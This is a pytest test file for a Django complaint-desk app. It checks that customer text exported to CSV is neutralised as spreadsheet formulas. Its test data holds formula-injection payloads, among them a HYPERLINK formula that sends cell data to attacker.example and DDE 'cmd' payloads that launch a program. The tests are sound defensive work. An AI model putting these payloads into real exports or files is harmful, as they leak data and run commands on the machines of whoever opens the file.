"""Formula injection in exports: text a customer typed, opened in a spreadsheet, must not run
as a formula (=HYPERLINK, =cmd|…, +, -, @)."""

from __future__ import annotations

import csv
import io

import pytest
from django.urls import reverse

from complaintdesk.console.exports import spreadsheet_safe
from tests.factories import file

pytestmark = pytest.mark.django_db

FORMULAS = (
    '=HYPERLINK("https://attacker.example?"&A1,"Refund")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
)


def test_formula_injection_in_the_queue_export_is_neutralised(client, agent):
    for formula in FORMULAS:
        file(subject=formula, name=formula, email="mallory@attacker.example")
    client.force_login(agent)

    content = b"".join(
        client.get(reverse("console:queue_csv"), {"status": "all"}).streaming_content
    )

    rows = list(csv.reader(io.StringIO(content.decode())))[1:]
    cells = [cell for row in rows for cell in (row[8], row[9])]
    assert (len(cells), [c for c in cells if not c.startswith("'")]) == (2 * len(FORMULAS), [])


@pytest.mark.parametrize("plain", ["Refund of 20 EUR", "CD-2025-0001", "", "dana@example.com"])
def test_ordinary_text_is_exported_unchanged(plain):
    assert spreadsheet_safe(plain) == plain
